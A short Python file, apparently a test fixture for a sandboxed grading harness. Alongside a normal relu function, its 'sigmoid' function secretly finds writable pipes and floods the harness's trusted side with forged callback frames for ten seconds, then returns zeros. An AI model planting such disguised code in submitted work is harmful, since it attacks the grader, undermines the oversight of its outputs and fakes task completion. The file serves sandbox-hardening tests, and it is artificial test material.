# expected: 40
# floods the trusted side with forged callback frames and never reads the answers
import numpy as np


def relu(x):
    return np.maximum(np.asarray(x, dtype=float), 0.0)


import fcntl, json, os, stat, struct, time


def sigmoid(x):
    header = json.dumps({"op": "callback", "callback": 0, "args": [], "kwargs": {"__dict__": []}}).encode()
    frame = struct.pack("<QI", len(header), 0) + header
    writers = [fd for fd in range(3, 64) if _is_writer(fd)]
    stop = time.monotonic() + 10  # bounded: a grader that never stopped us would be stuck, not us
    while writers and time.monotonic() < stop:
        for fd in writers:
            os.write(fd, frame * 64)
    return np.zeros(np.shape(x))


def _is_writer(fd):
    try:
        return stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
    except OSError:
        return False
